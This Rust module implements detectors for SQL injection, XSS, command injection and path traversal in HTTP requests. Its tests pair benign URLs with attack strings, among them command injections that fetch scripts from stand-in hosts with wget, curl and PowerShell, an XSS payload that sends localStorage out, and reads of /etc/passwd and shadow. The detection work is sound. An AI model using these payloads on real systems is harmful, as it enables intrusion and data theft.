//! Payload detectors: SQL injection, cross-site scripting, OS command
//! injection and path traversal in a request's values, as the rule
//! operators `sqli`, `xss`, `cmdi` and `traversal` (see
//! docs/payload-detectors.md).
//!
//! A field is split the way a server reads it (the path before `?`, each
//! query parameter's value, and for command injection and traversal the
//! whole query too when it holds raw shell punctuation), each piece is
//! normalised ([`decode::normalize`]:
//! repeated percent-decoding, `%u`, overlong UTF-8, NULs, case) and handed
//! to a tokenizing detector. Pieces made only of bytes no payload of the
//! class needs are skipped before any decoding, so ordinary traffic costs
//! a table lookup per byte; all buffers live in [`PayloadScratch`] and are
//! reused, so no line allocates once they have grown.

pub mod cmdi;
pub mod decode;
pub mod eval;
pub mod sqli;
pub mod traversal;
pub mod xss;

/// A payload class.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Payload {
    Sqli,
    Xss,
    Cmdi,
    Traversal,
}

impl Payload {
    pub const ALL: [Payload; 4] = [
        Payload::Sqli,
        Payload::Xss,
        Payload::Cmdi,
        Payload::Traversal,
    ];

    pub fn name(&self) -> &'static str {
        match self {
            Payload::Sqli => "sqli",
            Payload::Xss => "xss",
            Payload::Cmdi => "cmdi",
            Payload::Traversal => "traversal",
        }
    }

    /// Bytes that can start to make a value interesting for this class;
    /// a piece with none of them is skipped undecoded.
    const fn interesting(self, c: u8) -> bool {
        let common = matches!(
            c,
            b'%' | b'+'
                | b'\\'
                | b'\''
                | b'"'
                | b'`'
                | b'('
                | b';'
                | b'<'
                | b'&'
                | b'|'
                | b'$'
                | b' '
                | b'\t'
                | b'\n'
                | b'\r'
        ) || c < 0x20
            || c >= 0x80;
        common
            || match self {
                Payload::Sqli => matches!(c, b'#' | b'=' | b'>' | b'@' | b'*' | b')' | b'-'),
                Payload::Xss => matches!(c, b':' | b'>' | b'{' | b'[' | b'='),
                Payload::Cmdi => matches!(c, b'/' | b'{' | b'>' | b')'),
                Payload::Traversal => matches!(c, b'.' | b'/' | b':'),
            }
    }

    /// This class's bit in [`PIECE_CLASSES`].
    const fn bit(self) -> u8 {
        match self {
            Payload::Sqli => 1,
            Payload::Xss => 2,
            Payload::Cmdi => 4,
            Payload::Traversal => 8,
        }
    }
}

/// [`PIECE_CLASSES`]: the byte needs [`decode::normalize`] (an escape, a
/// capital, a NUL or a byte past ASCII).
const NEEDS_FOLD: u8 = 16;

/// Per byte: the classes it makes a piece interesting for, and
/// [`NEEDS_FOLD`]. Every detector asks these questions of every piece of
/// every request, so one pass over a table answers them all; a chain of
/// `matches!` per byte and question was a third of the detectors' time on
/// ordinary paths.
static PIECE_CLASSES: [u8; 256] = piece_classes();

const fn piece_classes() -> [u8; 256] {
    let mut table = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        let mut k = 0;
        while k < Payload::ALL.len() {
            if Payload::ALL[k].interesting(c) {
                table[i] |= Payload::ALL[k].bit();
            }
            k += 1;
        }
        if matches!(c, b'%' | b'+' | b'\\' | 0) || c >= 0x80 || c.is_ascii_uppercase() {
            table[i] |= NEEDS_FOLD;
        }
        i += 1;
    }
    table
}

/// The union of `table`'s entries for the bytes of `s`.
fn classes_of(table: &[u8; 256], s: &[u8]) -> u8 {
    s.iter().fold(0, |acc, &c| acc | table[usize::from(c)])
}

/// Reused buffers of the detectors; one per evaluating thread.
#[derive(Debug, Default)]
pub struct PayloadScratch {
    norm: Vec<u8>,
    tmp: Vec<u8>,
    alt: Vec<u8>,
    alt2: Vec<u8>,
    sqli: sqli::Sqli,
}

impl PayloadScratch {
    pub fn new() -> PayloadScratch {
        PayloadScratch::default()
    }
}

/// True when `text` (a field as logged; case does not matter) carries a
/// payload of this class in its path, any query value, or as a whole.
pub fn detect(kind: Payload, text: &str, sc: &mut PayloadScratch) -> bool {
    let b = text.as_bytes();
    let Some(q) = memchr::memchr(b'?', b) else {
        return piece(kind, b, sc);
    };
    if piece(kind, &b[..q], sc) {
        return true;
    }
    let query = &b[q + 1..];
    // A fragment is not sent by browsers; in a log it is part of a value.
    for param in query.split(|c| *c == b'&') {
        let value = match memchr::memchr(b'=', param) {
            Some(e) => &param[e + 1..],
            None => param,
        };
        if piece(kind, value, sc) {
            return true;
        }
    }
    // A raw `&` inside an unencoded command splits it above
    // (`;id&&whoami`, `a|b&c`): with raw shell punctuation in the query,
    // commands are also looked for in the query as one.
    kind == Payload::Cmdi
        && query.contains(&b'&')
        && query
            .iter()
            .any(|c| matches!(c, b';' | b'|' | b'`' | b'$' | b'<' | b'>'))
        && piece(kind, query, sc)
}

/// One value, exactly as given (no splitting): what the evaluation set
/// and the fuzz target feed.
pub fn detect_value(kind: Payload, value: &[u8], sc: &mut PayloadScratch) -> bool {
    piece(kind, value, sc)
}

fn piece(kind: Payload, raw: &[u8], sc: &mut PayloadScratch) -> bool {
    let classes = classes_of(&PIECE_CLASSES, raw);
    if raw.len() < 2 || classes & kind.bit() == 0 {
        // A bare reconnaissance program as the whole value (`whoami`)
        // needs no shell syntax.
        if kind != Payload::Cmdi || raw.len() > 10 {
            return false;
        }
        let mut low = [0u8; 10];
        low[..raw.len()].copy_from_slice(raw);
        low.make_ascii_lowercase();
        return cmdi::recon(&low[..raw.len()]);
    }
    let needs_fold = classes & NEEDS_FOLD != 0;
    let mut norm = std::mem::take(&mut sc.norm);
    let s: &[u8] = if needs_fold {
        decode::normalize(raw, &mut norm, &mut sc.tmp);
        &norm
    } else {
        raw
    };
    let hit = match kind {
        Payload::Sqli => sc.sqli.detect(s),
        Payload::Xss => {
            // Markup parsers drop NULs (`<scr\0ipt>`, `java\0script:`).
            let s = if memchr::memchr(0, s).is_some() {
                sc.tmp.clear();
                sc.tmp.extend(s.iter().filter(|c| **c != 0));
                &sc.tmp
            } else {
                s
            };
            xss::detect(s)
                || (decode::html_entities(s, &mut sc.alt, &mut sc.alt2) && xss::detect(&sc.alt))
        }
        Payload::Cmdi => cmdi::detect(s, &mut sc.alt),
        Payload::Traversal => {
            if traversal::detect(s) {
                true
            } else if memchr::memchr(b'\\', s).is_some()
                || memchr::memchr_iter(b'x', s).any(|p| p > 0 && s[p - 1] == b'0')
            {
                // Windows separators and the `0x2e` spelling some lists
                // use, read as `/` and `.`.
                sc.alt.clear();
                let mut i = 0;
                while i < s.len() {
                    if s[i..].starts_with(b"0x2e") {
                        sc.alt.push(b'.');
                        i += 4;
                    } else if s[i..].starts_with(b"0x2f") || s[i..].starts_with(b"0x5c") {
                        sc.alt.push(b'/');
                        i += 4;
                    } else if matches!(s[i], b'/' | b'\\') {
                        // A run of mixed separators (`..\/\etc`) is one
                        // to a Windows path parser.
                        if sc.alt.last() != Some(&b'/') {
                            sc.alt.push(b'/');
                        }
                        i += 1;
                    } else {
                        sc.alt.push(s[i]);
                        i += 1;
                    }
                }
                traversal::detect(&sc.alt)
            } else {
                false
            }
        }
    };
    sc.norm = norm;
    hit
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Requests of real sites that fired before (crawled URLs of the
    /// ISCX-URL-2016 benign list, analytics beacons), each beside the
    /// attack its fix must still see.
    #[test]
    fn real_world_requests_stay_quiet_and_their_attack_twins_fire() {
        let mut sc = PayloadScratch::new();
        let quiet: [(Payload, &str); 24] = [
            (Payload::Sqli, "/torrent/4191153/The+Squid+and+the+Whale+%282005%29+720p+BRRip+750MB+-+MkvCage.html"),
            (Payload::Sqli, "/torrent/4189693/Linux+Format+-+Ubuntu+15.04+The+Definitive+guide+to+the+Latest+Version+%28June+2015%29+%28True+PDF%29.html"),
            (Payload::Sqli, "/directory/add_facet_filter?facet=os&constraint=Grouping+and+Descriptive+Categories+%3A%3A+32-bit+MS+Windows+%2895%2F98%29"),
            (Payload::Sqli, "/questions/581590/wifi-having-hardblocked-yes-in-ubuntu-14-10-install-in-hp-pavilion-15-n205tx-n"),
            (Payload::Sqli, "/url?url=http%3A%2F%2Fcar-day.ru%2Fblog%2F43782433954%2FZIS-151---korol-bezdorozhya"),
            (Payload::Sqli, "/collect?us_privacy=1---"),
            (Payload::Sqli, "/imagens/CarteirosdoBrasil_1.jpg/@@images/652365fb-0395-469a-9812-e75aea0d1562.jpeg"),
            (Payload::Sqli, "/signup?email=John+or@var.es"),
            (Payload::Xss, "/g/collect?v=2&ep.link_url=javascript:;&en=click"),
            (Payload::Xss, "/tr?cd[buttonFeatures]=%7B%22destination%22%3A%22javascript%3Avoid(0)%22%7D"),
            (Payload::Cmdi, "/tr?cd[buttonFeatures]=%7B%22destination%22%3A%22javascript%3A%3B%22%2C%22id%22%3A%22%22%7D"),
            (Payload::Cmdi, "/api/ping"),
            (Payload::Cmdi, "/touch?t=How+to+block+a+user"),
            (Payload::Cmdi, "/users/id"),
            (Payload::Traversal, "/women/view/2052/%D8%A8%D8%A7%D9%84%D8%B5%D9%88%D8%B1..%D9%83%D9%8A%D9%85-%D9%83%D8%A7..%D8%B1"),
            (Payload::Sqli, "/x?q=Clark%2C+Raven-Romance_+Three+Stories+of+Lust+and+Love+%28BWWM%2C+Alpha%29.epub"),
            (Payload::Traversal, "/login?next=../account&x=../images/photo.jpg"),
            (Payload::Traversal, "/go?a=../orders/history&b=../home/dashboard&c=../blog/change_log"),
            (Payload::Sqli, "/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html"),
            (Payload::Sqli, "/uploads/2023-01/DBMS_Lab_Manual.pdf"),
            (Payload::Sqli, "/plone/@@usergroup-userprefs"),
            (Payload::Sqli, "/site/@@login-help"),
            (Payload::Xss, "/s?q=wow+so+cool!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!"),
            (Payload::Cmdi, "/s?q=Sale+%7C+Last+chance%3B+more+info+%7C+users+guide&price=%245+or+less"),
        ];
        for (kind, request) in quiet {
            assert!(
                !detect(kind, request, &mut sc),
                "{} false positive: {request}",
                kind.name()
            );
        }
        let fire: [(Payload, &str); 32] = [
            (Payload::Sqli, "/x?id=1+and+sleep+(5)"),
            (Payload::Sqli, "/x?id=1+and+ascii(substring(user(),1,1))>64"),
            (Payload::Sqli, "/x?id=-1+union+select+@@version"),
            (Payload::Sqli, "/x?id=1+and+@@version>0"),
            (Payload::Sqli, "/x?id=@@datadir"),
            (Payload::Sqli, "/x?id=1--"),
            (Payload::Sqli, "/x?id=1'+or+@a=@a--"),
            (
                Payload::Sqli,
                "/x?id=-1+UNI/**/ON+SEL/**/ECT+1,2,password+FROM+users--",
            ),
            (Payload::Xss, "/x?u=javascript:alert(1)"),
            (Payload::Xss, "/x?cb=confirm.call(null,1)"),
            (Payload::Xss, "/x?u=javascript:void(0)%20;fetch('//e.x/'%2BlocalStorage.t)"),
            (Payload::Cmdi, "/x?c=c:/tools/nc.exe"),
            (Payload::Cmdi, "/x?c=/bin//id"),
            (Payload::Sqli, "/x?q='%7C%7Cutl_http.request('http://e.x/')%7C%7C'"),
            (Payload::Sqli, "/x?q=1+and+1=(select+@@global.version_compile_os)"),
            (Payload::Xss, "/x?cb=alert?.(document?.cookie)"),
            (Payload::Xss, "/x?cb=%5B%5D.sort.call%60%24%7Balert%7D1337%60"),
            (Payload::Xss, "/x?cb=(%21%5B%5D%2B%5B%5D)%5B%2B%21%2B%5B%5D%5D%2B(%21%5B%5D%2B%5B%5D)%5B%21%2B%5B%5D%2B%21%2B%5B%5D%5D"),
            (
                Payload::Xss,
                "/x?u=javascript:void(0);alert(document.cookie)",
            ),
            (Payload::Cmdi, "/cgi-bin/x?c=/bin/ls"),
            (Payload::Cmdi, "/x?c=/usr/bin/id"),
            (Payload::Cmdi, "/x?c=%3B%7Bcat%2C%2Fetc%2Fpasswd%7D"),
            (
                Payload::Cmdi,
                "/x?c=%24u%2Fbin%24u%2Fcat%24u+%24u%2Fetc%24u%2Fpasswd%24u",
            ),
            (Payload::Cmdi, "/x?c=127.0.0.1;c%24!at+/et%24!c/pas%24!swd"),
            (Payload::Cmdi, "/x?c=;lastlog+-u+root"),
            (
                Payload::Cmdi,
                "/x?c=;iex+(iwr+http://10.0.10.10:8000/x.ps1)",
            ),
            (Payload::Traversal, "/x?f=..%c0%af..%c0%afetc%c0%afpasswd"),
            (Payload::Traversal, "/x?f=..%ef%bc%8f..%ef%bc%8fwin.ini"),
            (Payload::Traversal, "/x?f=..%5C%2F%5Cetc%5C%2F%5Cgroup"),
            (Payload::Traversal, "/x?page=../etc/my.cnf"),
            (Payload::Traversal, "/x?page=../usr/local/php/lib/php.ini"),
            (Payload::Traversal, "/x?page=../logs/access.log"),
        ];
        for (kind, request) in fire {
            assert!(
                detect(kind, request, &mut sc),
                "{} missed: {request}",
                kind.name()
            );
        }
    }

    #[test]
    fn fields_are_split_like_a_server_reads_them() {
        let mut sc = PayloadScratch::new();
        let d = |k, t: &str, sc: &mut PayloadScratch| detect(k, t, sc);
        assert!(d(
            Payload::Sqli,
            "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--",
            &mut sc
        ));
        assert!(d(
            Payload::Sqli,
            "/login?user=admin'%20or%20'1'='1&x=2",
            &mut sc
        ));
        assert!(!d(Payload::Sqli, "/search?q=O%27Brien&page=2", &mut sc));
        assert!(d(
            Payload::Xss,
            "/s?q=%253Csvg%2520onload%253Dprompt(1)%253E",
            &mut sc
        ));
        assert!(d(
            Payload::Cmdi,
            "/ping?host=127.0.0.1;wget%20http://evil.example/x.sh",
            &mut sc
        ));
        assert!(d(
            Payload::Cmdi,
            "/cgi-bin/;cd${IFS}/tmp;$(curl${IFS}evil.example)",
            &mut sc
        ));
        assert!(!d(
            Payload::Cmdi,
            "/api/v1/items?page=2&id=5&per_page=50",
            &mut sc
        ));
        assert!(d(
            Payload::Traversal,
            "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow",
            &mut sc
        ));
        assert!(d(
            Payload::Traversal,
            "/a/..\\x5c..\\x5cwindows\\x5csystem32\\x5ccmd.exe",
            &mut sc
        ));
        assert!(d(
            Payload::Traversal,
            "/img?f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
            &mut sc
        ));
        for k in Payload::ALL {
            assert!(!d(k, "/static/js/app.3f9a1c.js", &mut sc), "{k:?}");
            assert!(
                !d(k, "/search?q=running+shoes&sort=price", &mut sc),
                "{k:?}"
            );
            assert!(!d(k, "/products/4711?ref=home&v=123456", &mut sc), "{k:?}");
        }
    }
}
